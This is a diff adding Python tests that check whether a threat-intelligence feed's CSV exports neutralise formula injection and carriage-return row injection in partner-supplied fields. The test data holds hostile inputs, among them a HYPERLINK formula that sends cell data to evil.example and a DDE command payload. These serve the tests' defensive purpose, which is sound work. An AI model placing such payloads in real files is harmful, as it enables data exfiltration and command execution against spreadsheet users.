@@ -29,6 +29,7 @@ from exchange.feed.store import FeedStore, ReceivedVersion
 from exchange.feed.timestamps import object_version
 from exchange.lab_config import load_lab_config
 from mappings.convert import records_to_bundle
+from mappings.names import EXT_IP_RANGE_INDICATOR
 from mappings.record_objects import (
     cluster_object_id,
     fingerprint_indicator_id,
@@ -433,3 +434,95 @@ def test_readers_see_complete_artifacts_and_whole_sets_through_runs_and_kills(
         hidden
     )
     assert sorted(p.name for p in out.iterdir() if not p.name.startswith(".")) == list(ARTIFACTS)
+
+
+FORMULAS = ('=HYPERLINK("https://evil.example/?"&A2,"details")', "+1+1", "-2+3", "@SUM(1)")
+
+
+def test_partner_text_reaches_the_csv_files_as_text_not_formulas(exchange: Exchange) -> None:
+    """Lab B names itself with a formula and recommends a formula action: cells start with '."""
+    from tests.feed.harness import LAB_B_IDENTITY
+    from tests.feed.stix_factory import indicator as plain_indicator
+
+    collection_id = exchange.add_collection("formula feed", "formula-feed")
+    exchange.admin_batch(["grant", "lab-b", collection_id, "--read", "--write"])
+    identity = {
+        "type": "identity",
+        "spec_version": "2.1",
+        "id": LAB_B_IDENTITY,
+        "created_by_ref": LAB_B_IDENTITY,
+        "created": "2026-01-01T00:00:00.000Z",
+        "modified": "2026-01-01T00:00:00.000Z",
+        "name": FORMULAS[0],
+        "identity_class": "organization",
+    }
+    ranges = []
+    for number, action in enumerate((*FORMULAS[1:], "\tblock")):
+        obj = plain_indicator(f"formula-{number}", f"198.51.100.{number * 16}/28")
+        obj["created_by_ref"] = LAB_B_IDENTITY
+        obj["extensions"] = {EXT_IP_RANGE_INDICATOR: {"recommended_action": action}}
+        ranges.append(obj)
+    collection = Collection(
+        f"{exchange.api_root_url}collections/{collection_id}/",
+        user="lab-b",
+        password=exchange.keys["lab-b"],
+    )
+    status = collection.add_objects({"objects": [identity, *ranges]}, timeout=60)
+    assert status.failure_count == 0, status.failures
+    lab = exchange.lab_config("formula-lab", collections=[collection_id])
+    run_dx("poll", "--config", str(lab))
+    rows = csv_rows(act(lab)["ranges.csv"])
+
+    assert [row["producer_name"] for row in rows] == ["'" + FORMULAS[0]] * 4
+    # Actions are normalised (lower case, stripped: the tab is gone), then neutralised.
+    assert sorted(row["action"] for row in rows) == ["'+1+1", "'-2+3", "'@sum(1)", "block"]
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
+
+
+def test_watchlist_cells_are_neutralised_too(tmp_path: Path) -> None:
+    from exchange.feed.artifacts import render_watchlist
+    from exchange.feed.current import CurrentFeed, WatchEntry
+
+    entry = WatchEntry(
+        hash="a" * 64,
+        kind="=cmd|' /C calc'!A0",
+        key_id="\rkey",
+        cluster="account-cluster--00000000-0000-4000-8000-000000000000",
+        cluster_key="+cluster",
+        producer="identity--00000000-0000-4000-8000-000000000001",
+        confidence=-5,
+        enforcement="@enforce",
+    )
+    feed = CurrentFeed(watchlist=[entry], producer_names={entry.producer: "-name"})
+    content = render_watchlist(feed).decode()
+    (row,) = list(csv.DictReader(io.StringIO(content, newline="")))
+    assert (row["kind"], row["key_id"], row["cluster_key"]) == (
+        "'=cmd|' /C calc'!A0",
+        "'\nkey",  # a carriage return would end the row in CSV readers: written as \n
+        "'+cluster",
+    )
+    assert (row["enforcement"], row["producer_name"]) == ("'@enforce", "'-name")
+    assert row["confidence"] == "-5"  # a number, not text: left as it is
+    assert row["hash"] == "a" * 64
+
+
+def test_a_carriage_return_cannot_add_rows_to_a_csv_file() -> None:
+    from exchange.feed.artifacts import render_watchlist
+    from exchange.feed.current import CurrentFeed, WatchEntry
+
+    producer = "identity--00000000-0000-4000-8000-000000000001"
+    entry = WatchEntry(
+        hash="b" * 64,
+        kind="email",
+        key_id="k",
+        cluster="account-cluster--00000000-0000-4000-8000-000000000000",
+        cluster_key="cl\r" + "c" * 64,  # no comma: the writer would quote the cell then
+        producer=producer,
+        confidence=50,
+        enforcement="banned",
+    )
+    content = render_watchlist(CurrentFeed(watchlist=[entry], producer_names={producer: "B"}))
+    rows = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
+    assert [row["hash"] for row in rows] == ["b" * 64]
